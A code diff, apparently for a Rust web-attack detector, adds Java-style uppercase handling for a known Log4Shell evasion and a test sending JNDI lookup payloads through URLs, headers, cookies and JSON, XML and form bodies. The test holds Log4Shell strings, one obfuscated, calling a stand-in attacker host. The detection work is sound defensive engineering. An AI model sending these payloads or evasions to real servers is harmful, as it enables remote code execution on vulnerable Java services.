@@ -264,7 +264,7 @@ fn lookup(content: &[u8], has_inner: bool, span: (usize, usize), seen: &mut Seen
     }
     match (arg, lower.as_slice()) {
         (Some(a), b"lower") => a.to_ascii_lowercase(),
-        (Some(a), b"upper") => a.to_ascii_uppercase(),
+        (Some(a), b"upper") => upper(a),
         (Some(a), b"date") => date(a),
         _ => match default {
             Some(d) => d.to_vec(),
@@ -272,6 +272,30 @@ fn lookup(content: &[u8], has_inner: bool, span: (usize, usize), seen: &mut Seen
             None => wrap(content),
         },
     }
+}
+
+/// Java's `toUpperCase`, which also maps the dotless `ı` to `I` and the long
+/// `ſ` to `S` (a known evasion: `${upper:ı}` is `I`).
+fn upper(s: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(s.len());
+    let mut i = 0;
+    while i < s.len() {
+        match (s[i], s.get(i + 1)) {
+            (0xC4, Some(0xB1)) => {
+                out.push(b'I');
+                i += 2;
+            }
+            (0xC5, Some(0xBF)) => {
+                out.push(b'S');
+                i += 2;
+            }
+            (b, _) => {
+                out.push(b.to_ascii_uppercase());
+                i += 1;
+            }
+        }
+    }
+    out
 }
 
 fn wrap(content: &[u8]) -> Vec<u8> {
@@ -388,6 +412,73 @@ mod tests {
             let h = detect(v.as_bytes(), &ctx(Part::Query)).unwrap();
             assert_eq!(h.rule, "jndi.lookup", "{v}");
             assert_eq!(h.score, 10, "{v}");
+        }
+    }
+
+    /// The same lookups in every place a server reads, through the engine.
+    #[test]
+    fn placements() {
+        use crate::{analyze, AttackClass, Request};
+        let payloads = [
+            "${jndi:ldap://attacker.example/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}",
+        ];
+        for p in payloads {
+            let enc: String = p
+                .bytes()
+                .map(|b| match b {
+                    b'$' => "%24".to_string(),
+                    b'{' => "%7B".to_string(),
+                    b'}' => "%7D".to_string(),
+                    b':' => "%3A".to_string(),
+                    b'/' => "%2F".to_string(),
+                    _ => (b as char).to_string(),
+                })
+                .collect();
+            let json = format!(r#"{{"user":{{"name":"{p}"}}}}"#);
+            let xml = format!("<a><b attr=\"{p}\">x</b></a>");
+            let form = format!("q={enc}");
+            let uri = format!("/?q={enc}");
+            let cookie = format!("sid={enc}");
+            let reqs = [
+                Request::builder().uri(&uri).build(),
+                Request::builder().uri("/").header("User-Agent", p).build(),
+                Request::builder()
+                    .uri("/")
+                    .header("X-Api-Version", p)
+                    .build(),
+                Request::builder().uri("/").header("Referer", p).build(),
+                Request::builder()
+                    .uri("/")
+                    .header("Cookie", &cookie)
+                    .build(),
+                Request::builder()
+                    .method("POST")
+                    .uri("/")
+                    .header("Content-Type", "application/json")
+                    .body(&json)
+                    .build(),
+                Request::builder()
+                    .method("POST")
+                    .uri("/")
+                    .header("Content-Type", "application/xml")
+                    .body(&xml)
+                    .build(),
+                Request::builder()
+                    .method("POST")
+                    .uri("/")
+                    .header("Content-Type", "application/x-www-form-urlencoded")
+                    .body(&form)
+                    .build(),
+            ];
+            for r in &reqs {
+                let v = analyze(r);
+                assert!(
+                    v.findings().iter().any(|f| f.class == AttackClass::Jndi),
+                    "{p}: {}",
+                    v.to_json()
+                );
+            }
         }
     }
 
